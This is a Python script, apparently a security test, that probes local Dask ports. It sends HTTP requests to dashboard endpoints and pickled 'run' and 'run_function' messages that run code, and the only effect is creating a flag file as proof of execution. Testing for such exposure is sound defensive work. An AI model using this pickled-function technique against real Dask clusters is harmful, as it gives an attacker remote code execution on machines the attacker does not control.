"""What anybody who may open this machine's ports can try on Dask's: read, change, run code.

    python -m tests.runtime.intruder FLAG PORT...

Prints a line for each success; code that runs makes the file FLAG.
"""

import asyncio
import http.client
import os
import sys
from functools import partial
from pathlib import Path

from distributed.comm.core import connect
from distributed.protocol.pickle import dumps
from distributed.security import Security

PAGES = ("/", "/info/main/workers.html", "/json/counts.json", "/metrics", "/health", "/status", "/proxy/1/127.0.0.1/")
SECONDS = 1
NOTHING = b'{"paths": ["/sitemap.json"]}'


async def call(protocol: str, port: int, messages: list[dict]) -> None:
    security = Security.temporary()
    try:
        arguments = security.get_connection_args("client") if protocol == "tls" else {}
        comm = await connect(f"{protocol}://127.0.0.1:{port}", timeout=SECONDS, **arguments)
        for message in messages:
            await asyncio.wait_for(comm.write(message | {"reply": True}), SECONDS)
            answer = await asyncio.wait_for(comm.read(), SECONDS)
            print(port, protocol, message["op"], str(answer)[:200], flush=True)
    except (OSError, TimeoutError, ValueError):  # not even a conversation
        return


async def attack(flag: str, ports: list[int]) -> None:
    code = {"function": dumps(partial(Path(flag).touch)), "args": dumps(()), "kwargs": dumps({}), "wait": True}
    messages = [{"op": "identity"}, {"op": "run", **code}, {"op": "run_function", **code}]
    calls = [call(protocol, port, messages) for protocol in ("tcp", "tls") for port in ports]
    await asyncio.wait(map(asyncio.ensure_future, calls), timeout=3 * SECONDS)
    os._exit(0)  # Dask may go on trying to connect for ever


def browse(port: int) -> None:
    for method in ("GET", "PUT", "POST"):
        for page in (*PAGES, "/sitemap.json"):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=SECONDS)
            try:
                connection.request(method, page, body="{}")
                answer = connection.getresponse()
                content = answer.read()
            except (OSError, http.client.HTTPException):
                return  # this port does not speak HTTP
            finally:
                connection.close()
            if answer.status not in (404, 405) and content != NOTHING:
                print(port, method, page, answer.status, flush=True)


if __name__ == "__main__":
    for port in sys.argv[2:]:
        browse(int(port))
    asyncio.run(attack(sys.argv[1], [int(port) for port in sys.argv[2:]]))
